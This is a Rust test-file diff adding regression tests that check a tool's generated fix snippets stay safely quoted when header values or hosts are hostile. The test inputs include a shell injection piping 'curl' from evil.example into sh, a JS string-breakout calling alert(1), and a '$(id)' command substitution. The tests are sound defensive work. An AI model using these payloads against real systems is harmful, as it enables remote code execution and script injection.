@@ -124,3 +124,45 @@ fn hostile_exchanges_do_not_panic() {
         }
     }
 }
+
+/// Issue 8: the payload of the issue, in `resource_metadata`, stays one single-quoted shell word.
+#[test]
+fn hostile_resource_metadata_stays_one_shell_word() {
+    let cap = capture(
+        401,
+        vec![],
+        vec![("WWW-Authenticate", "Bearer resource_metadata=\"x'; curl -s evil.example/p|sh; echo '\"")],
+    );
+    let (findings, _) = run(&cap);
+    let f = findings.iter().find(|f| f.id == FindingId::ResourceMetadataAdvertised).expect("found");
+    assert_eq!(
+        f.fix.snippets[0].code,
+        r#"curl -s 'x'\''; curl -s evil.example/p|sh; echo '\''' | jq '{authorization_servers, scopes_supported, resource}'"#
+    );
+}
+
+/// Issue 8: a required scope cannot close the JS string it is written into.
+#[test]
+fn hostile_scope_stays_one_js_string() {
+    let cap = capture(
+        403,
+        vec![("Authorization", "Bearer abc.def")],
+        vec![("WWW-Authenticate", "Bearer error=\"insufficient_scope\", scope=\"a'});alert(1);//\\\"\"")],
+    );
+    let (findings, _) = run(&cap);
+    let f = findings.iter().find(|f| f.id == FindingId::BearerInsufficientScope).expect("found");
+    let code = &f.fix.snippets[0].code;
+    assert_eq!(code, r#"auth.loginWithRedirect({ scope: "openid a'});alert(1);//\"" });"#);
+}
+
+/// Issue 8: a host with shell and JSON metacharacters (a URL host may hold them) stays quoted.
+#[test]
+fn hostile_host_stays_quoted_in_negotiate_snippets() {
+    let mut cap = capture(401, vec![], vec![("WWW-Authenticate", "Negotiate")]);
+    cap.exchanges[0].url = Cow::Borrowed("https://a'$(id)\"x.corp/");
+    let (findings, _) = run(&cap);
+    let f = findings.iter().find(|f| f.id == FindingId::NegotiateNotAttempted).expect("found");
+    let code = |lang: &str| f.fix.snippets.iter().find(|s| s.lang == lang).map(|s| s.code.as_str()).unwrap_or("");
+    assert_eq!(code("shell"), r#"setspn -S 'HTTP/a'\''$(id)"x.corp' svc-account"#);
+    assert!(code("json").starts_with(r#"{ "AuthServerAllowlist": "a'$(id)\"x.corp" }"#), "{}", code("json"));
+}
